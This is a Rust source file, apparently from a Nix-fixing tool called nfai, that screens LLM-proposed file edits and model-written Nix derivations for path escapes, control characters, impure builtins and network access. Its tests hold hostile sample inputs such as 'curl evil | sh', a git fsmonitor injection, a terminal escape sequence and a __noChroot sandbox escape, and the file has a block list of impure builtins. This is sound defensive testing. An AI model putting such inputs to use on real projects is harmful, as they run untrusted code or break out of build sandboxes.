//! The gate every model proposal crosses before it becomes a candidate fix: it may only edit
//! files the prompt showed, inside the project, never under `.git` or through a symlink; its
//! text must be free of control characters and of sane size; its description is quoted so it
//! cannot pass for nfai's words. A proposal that breaks any rule is dropped whole. Nix code a
//! model writes whole (a derivation) must also stay inside the project and off the network.

use std::path::{Component, Path};

use super::Proposal;
use crate::fix::{Candidate, Project};
use crate::nix::edit::TextEdit;
use crate::render::inert::{quote_model, MODEL_TEXT_CHARS};

/// The most edits one proposal may make.
const MAX_EDITS: usize = 16;
/// The most text one edit may insert.
const MAX_REPLACE_BYTES: usize = 64 * 1024;

/// The proposals that may become candidates, and the reasons the others were dropped (both
/// safe to print). `shown` are the project-relative paths of the files the prompt showed.
pub fn admit(
    project: &Project,
    shown: &[String],
    proposals: &[Proposal],
) -> (Vec<Candidate>, Vec<String>) {
    let mut good = Vec::new();
    let mut dropped = Vec::new();
    for p in proposals {
        let description = quote_model(&p.description, MODEL_TEXT_CHARS);
        match edits(project, shown, p) {
            Ok(edits) => good.push(Candidate {
                description: format!("LLM proposal {description}"),
                edits,
                commands: Vec::new(),
                nix_args: Vec::new(),
            }),
            Err(why) => dropped.push(format!("{description}: {why}")),
        }
    }
    (good, dropped)
}

fn edits(project: &Project, shown: &[String], p: &Proposal) -> Result<Vec<TextEdit>, String> {
    if p.edits.is_empty() {
        return Err("no edits".into());
    }
    if p.edits.len() > MAX_EDITS {
        return Err(format!("{} edits (at most {MAX_EDITS})", p.edits.len()));
    }
    p.edits
        .iter()
        .map(|e| {
            let name = quote_model(&e.file, 80);
            let Some(rel) = shown
                .iter()
                .map(Path::new)
                .find(|s| same_path(s, Path::new(&e.file)))
            else {
                return Err(format!("{name} is not one of the files it was shown"));
            };
            crate::validate::check_inside(&project.root, rel).map_err(|_| {
                format!("{name} is outside the project, under .git or behind a symlink")
            })?;
            if [&e.find, &e.replace].iter().any(|t| has_controls(t)) {
                return Err(format!("the edit of {name} contains control characters"));
            }
            if e.replace.len() > MAX_REPLACE_BYTES {
                return Err(format!(
                    "the edit of {name} is larger than {MAX_REPLACE_BYTES} bytes"
                ));
            }
            let text = std::fs::read_to_string(project.root.join(rel))
                .map_err(|err| format!("{name}: {err}"))?;
            let mut found = text.match_indices(&e.find);
            match (found.next(), found.next()) {
                (Some((at, _)), None) if !e.find.is_empty() => Ok(TextEdit::replace(
                    rel,
                    at..at + e.find.len(),
                    e.replace.clone(),
                )),
                (None, _) => Err(format!("{name}: the text to replace is not there")),
                _ => Err(format!("{name}: the text to replace is not unique")),
            }
        })
        .collect()
}

/// `a/./b.nix` and `a/b.nix` are the same file; anything with `..` is no shown file.
fn same_path(a: &Path, b: &Path) -> bool {
    let normal = |p: &Path| -> Option<Vec<String>> {
        p.components()
            .filter(|c| *c != Component::CurDir)
            .map(|c| match c {
                Component::Normal(s) => s.to_str().map(str::to_owned),
                _ => None,
            })
            .collect()
    };
    normal(a).is_some_and(|x| Some(x) == normal(b))
}

/// Builtins whose results depend on the machine rather than on the project, or that escape
/// the sandbox; a model's code has no use for them.
const IMPURE: &[&str] = &[
    "getEnv",
    "currentTime",
    "currentSystem",
    "storePath",
    "toPath",
    "getFlake",
    "exec",
    "importNative",
    "__noChroot",
    "__impure",
    "impureEnvVars",
];

/// Why a Nix expression a model wrote whole may not be evaluated or built, or `Ok` when it
/// is one expression that reads only the project and adds nothing that reaches the network
/// (URLs, fetchers, fixed-output hashes, computed attribute names: see `nix::network`).
pub fn code(expr: &str) -> Result<(), String> {
    if has_controls(expr) {
        return Err("the code contains control characters".into());
    }
    if expr.len() > MAX_REPLACE_BYTES {
        return Err(format!("the code is larger than {MAX_REPLACE_BYTES} bytes"));
    }
    if let Some(e) = crate::nix::syntax::parse(expr).errors().first() {
        return Err(format!("the code is not one Nix expression: {e}"));
    }
    let mut why = crate::nix::network::additions("", expr);
    for (kind, token) in rnix::tokenize(expr) {
        use rnix::SyntaxKind as K;
        let shown = quote_model(token, 80);
        match kind {
            K::TOKEN_PATH_ABS | K::TOKEN_PATH_HOME | K::TOKEN_PATH_SEARCH => {
                why.push(format!("reads {shown}, outside the project"));
            }
            K::TOKEN_PATH_REL if token.split('/').any(|c| c == "..") => {
                why.push(format!("reads {shown}, which may be outside the project"));
            }
            K::TOKEN_IDENT | K::TOKEN_STRING_CONTENT if IMPURE.contains(&token) => {
                why.push(format!("uses the impure {shown}"));
            }
            _ => {}
        }
    }
    why.dedup();
    match why.is_empty() {
        true => Ok(()),
        false => Err(why.join("; ")),
    }
}

/// Whether `name` is a plain nixpkgs attribute path (`gnumake`, `python3Packages.pytest`),
/// safe to write into a list unquoted.
pub fn attribute_name(name: &str) -> bool {
    name.len() <= 100
        && name.split('.').all(|part| {
            part.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                && part
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '\''))
        })
}

fn has_controls(text: &str) -> bool {
    text.chars()
        .any(|c| c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::llm::Replace;

    fn proposal(file: &str, find: &str, replace: &str) -> Proposal {
        Proposal {
            description: format!("edit {file}"),
            edits: vec![Replace {
                file: file.into(),
                find: find.into(),
                replace: replace.into(),
            }],
        }
    }

    #[test]
    fn only_shown_files_inside_the_project() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("flake.nix"), "{ a = x; b = x; c = y; }\n").unwrap();
        std::fs::write(root.join(".envrc"), "use flake\n").unwrap();
        std::fs::create_dir_all(root.join("sub/.git")).unwrap();
        std::fs::write(root.join("sub/.git/config"), "[core]\n").unwrap();
        std::os::unix::fs::symlink("/etc", root.join("etc")).unwrap();
        let project = Project::load(root);
        let shown = [
            "flake.nix".to_owned(),
            "sub/.git/config".to_owned(),
            "etc/hostname".to_owned(),
        ];
        let (good, dropped) = admit(
            &project,
            &shown,
            &[
                proposal("./flake.nix", "c = y", "c = z"),
                proposal("flake.nix", "x", "z"),
                proposal(".envrc", "use flake", "curl evil | sh"),
                proposal("sub/.git/config", "[core]", "[core]\nfsmonitor = evil"),
                proposal("etc/hostname", "a", "b"),
                proposal("../flake.nix", "c = y", "c = z"),
                proposal("flake.nix", "c = y", "c = \u{1b}]0;pwned\u{7}"),
            ],
        );
        assert_eq!(good.len(), 1, "{dropped:#?}");
        assert_eq!(good[0].edits[0].range, 16..21);
        assert!(good[0].description.starts_with("LLM proposal “"));
        assert_eq!(dropped.len(), 6);
        assert!(dropped[1].contains("not one of the files it was shown"));
        assert!(dropped[2].contains("under .git"));
        assert!(dropped[5].contains("control characters"));
    }

    #[test]
    fn model_code_stays_in_the_project_and_off_the_network() {
        let good = "stdenv.mkDerivation {\n  pname = \"t\";\n  version = \"1\";\n  src = ./.;\n  installPhase = ''\n    sh ./build.sh \"$out\"\n  '';\n}";
        assert_eq!(code(good), Ok(()));
        for (bad, why) in [
            (
                "stdenv.mkDerivation { src = pkgs.fetchurl { url = \"http://e.org/x\"; }; }",
                "fetcher",
            ),
            (
                "stdenv.mkDerivation { name = builtins.getEnv \"HOME\"; }",
                "impure “getEnv”",
            ),
            (
                "stdenv.mkDerivation { src = import /etc/x.nix; }",
                "“/etc/x.nix”, outside",
            ),
            ("stdenv.mkDerivation { src = ../other; }", "“../other”"),
            ("stdenv.mkDerivation { __noChroot = true; }", "__noChroot"),
            ("stdenv.mkDerivation { src = <secrets>; }", "“<secrets>”"),
            (
                "stdenv.mkDerivation { ${\"__no\" + \"Chroot\"} = true; }",
                "computed attribute name",
            ),
            ("stdenv.mkDerivation { outputHash = \"\"; }", "fixed-output"),
            ("{ a = 1; }; outputs = 2", "not one Nix expression"),
        ] {
            let e = code(bad).unwrap_err();
            assert!(e.contains(why), "{bad}: {e}");
        }
        assert!(attribute_name("python3Packages.pytest") && attribute_name("pkg-config"));
        assert!(!attribute_name("zlib ]; x = (import /etc") && !attribute_name("a..b"));
    }

    #[test]
    fn a_proposal_with_one_bad_edit_is_dropped_whole() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("flake.nix"), "{ a = 1; }\n").unwrap();
        std::fs::write(dir.path().join("run.sh"), "echo hi\n").unwrap();
        let project = Project::load(dir.path());
        let mut p = proposal("flake.nix", "a = 1", "a = 2");
        p.edits
            .extend(proposal("run.sh", "echo hi", "echo pwned").edits);
        let (good, dropped) = admit(&project, &["flake.nix".into()], &[p]);
        assert!(good.is_empty());
        assert_eq!(dropped.len(), 1);
    }
}
